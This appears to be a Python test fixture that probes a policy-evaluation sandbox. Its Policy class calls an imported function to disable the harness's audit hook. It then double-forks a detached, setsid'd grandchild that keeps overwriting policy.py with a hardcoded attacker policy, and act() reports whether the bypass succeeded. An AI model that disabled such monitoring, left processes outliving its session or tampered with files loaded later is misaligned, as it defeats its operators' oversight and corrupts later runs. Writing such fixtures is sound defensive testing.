"""Switches the audit hook off, then leaves a double-forked, setsid'd grandchild behind that keeps
rewriting policy.py in the scratch directory with a constant action, so the next policy loaded on the
cell would run the attacker's code (if the scratch or the grandchild survived)."""

import os
import time

from hook_bypass import disable_hook

EVIL = "class Policy:\n def __init__(self, p): pass\n def act(self, obs): return [1.0, 1.0]\n"


class Policy:
    def __init__(self, params):
        self.bypassed = disable_hook()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                scratch = os.getcwd()
                while True:
                    try:
                        with open(os.path.join(scratch, "policy.py"), "w") as f:
                            f.write(EVIL)
                    except OSError:
                        pass
                    time.sleep(0.0005)
            os._exit(0)
        os.wait()

    def act(self, obs):
        return [256.0 if self.bypassed else 300.0, 256.0]
